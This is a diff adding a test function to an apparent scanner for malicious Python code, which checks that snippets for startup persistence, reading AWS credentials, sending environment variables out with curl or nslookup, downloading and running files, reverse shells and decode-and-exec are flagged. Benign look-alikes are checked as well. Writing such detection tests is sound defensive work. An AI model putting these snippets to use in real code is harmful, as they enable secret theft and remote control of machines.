@@ -524,6 +524,55 @@ static void but_seen(void)
 		    "  os.popen(m.content)", MPY_BEH_CHAT_CONTROL, 3));
 }
 
+/* What programs are made to do by the tools and the texts that they are given. */
+static void by_other_means(void)
+{
+	CHECK(shows("import os\np = os.path.join(a, 'Start Menu', 'Programs', "
+		    "'Startup')\nopen(p, 'w')", MPY_BEH_PERSIST_STARTUP, 3));
+	CHECK(shows("import os\np = os.path.join(h, '.aws', 'credentials')\n"
+		    "open(p).read()", MPY_BEH_SECRET_READ, 3));
+	CHECK(shows("import os, subprocess\nsubprocess.run(['curl', '-d', "
+		    "str(os.environ), u])", MPY_BEH_ENV_SEND, 2));
+	CHECK(shows("import os\nos.system('nslookup ' + os.uname()[1] + x)",
+		    MPY_BEH_DNS_SEND, 2));
+	CHECK(shows("import subprocess\n"
+		    "c = subprocess.getoutput('curl http://x.invalid')\n"
+		    "subprocess.getoutput(str(c))", MPY_BEH_NETWORK_RUN, 3));
+	CHECK(shows("f.write(f'exec(base64.b64decode({x}))')",
+		    MPY_BEH_CODE_TEXT, 1));
+	CHECK(shows("run('powershell -w hidden -c x')", MPY_BEH_SHELL_TEXT, 1));
+	CHECK(shows("run('wget http://x.invalid/a; chmod +x a; ./a')",
+		    MPY_BEH_SHELL_TEXT, 1));
+	CHECK(shows("import os\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)"
+		    "\nimport pty\npty.spawn('/bin/sh')",
+		    MPY_BEH_REVERSE_SHELL, 5));
+	CHECK(shows("import os\nos.dup2(s.fileno(), 0)",
+		    MPY_BEH_SOCKET_STDIO, 2));
+	CHECK(shows("import pty\npty.spawn('/bin/bash')", MPY_BEH_PTY_SHELL,
+		    2));
+	CHECK(shows("from x import Fernet\n"
+		    "exec(Fernet(k).decrypt(d).decode())",
+		    MPY_BEH_DECODE_EXEC, 2));
+	CHECK(shows("open(p, 'wb').write(b'\\x7fELF\\2\\1\\1\\0"
+		    "00000000000000000000000000000000000000000000000000000000"
+		    "00000000')", MPY_BEH_CARRIES, 1));
+	CHECK(shows("import urllib.request, os\n"
+		    "urllib.request.urlretrieve(u, p)\nos.chmod(p, 0o755)",
+		    MPY_BEH_DROP_CHMOD, 3));
+	CHECK(shows("import requests, tempfile, subprocess\n"
+		    "with tempfile.NamedTemporaryFile() as f:\n"
+		    "  f.write(requests.get(u).content)\n"
+		    "  subprocess.run(['python', f.name])",
+		    MPY_BEH_DOWNLOAD_START, 4));
+	CHECK(shows("exec(''.join(map(chr, f())))", MPY_BEH_MADE_EXEC, 1));
+	CHECK(is_ordinary("import os\nlog = open('/var/log/x', 'a')\n"
+			  "os.dup2(log.fileno(), 1)"));
+	CHECK(is_ordinary("import subprocess\n"
+			  "subprocess.run(['dig', '+short', 'example.org'])"));
+	CHECK(is_ordinary("import os\nos.chmod('run.sh', 0o755)"));
+	CHECK(is_ordinary("x = 'exec() runs a string'"));
+}
+
 static void names_are_complete(void)
 {
 	for (int i = 0; i < MPY_BEH_COUNT; i++) {
@@ -570,6 +619,7 @@ int main(void)
 	RUN(ordinary);
 	RUN(not_mistaken);
 	RUN(but_seen);
+	RUN(by_other_means);
 	RUN(names_are_complete);
 	RUN(counts_lines);
 	return DONE();
